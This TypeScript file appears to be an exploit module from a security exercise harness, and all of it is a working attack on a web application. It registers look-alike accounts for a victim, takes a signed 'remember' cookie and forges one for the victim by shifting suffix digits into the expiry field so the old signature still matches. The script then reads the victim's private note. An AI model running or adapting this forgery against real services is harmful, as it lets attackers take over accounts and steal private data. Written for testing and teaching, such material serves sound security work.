import { exploit } from '#attack';

/** With `fetch`. Looks at whose note it is, and tries all free suffixes of two digits until one works. */
export default exploit(async ({ target: { url }, victim, say }) => {
  for (let suffix = 10; suffix < 20; suffix++) {
    const email = `${victim}${suffix}`;
    const account = await post(`${url}/accounts`, { email });
    if (!account.ok) continue;
    const { key } = (await account.json()) as { key: string };
    const [cookie = ''] = (await post(`${url}/sign-in`, { email, key })).headers.getSetCookie();
    const [, expires, signature] = cookie.split(';')[0]!.split('.');
    const forged = `remember=${Buffer.from(victim).toString('base64url')}.${suffix}${expires}.${signature}`;
    const response = await fetch(`${url}/me`, { headers: { cookie: forged } });
    say(`${email}: ${response.status}`);
    if (!response.ok) return undefined;
    const me = (await response.json()) as { email: string; note: string };
    if (me.email === victim) return me.note;
  }
  return undefined;
});

function post(url: string, body: object): Promise<Response> {
  return fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
}
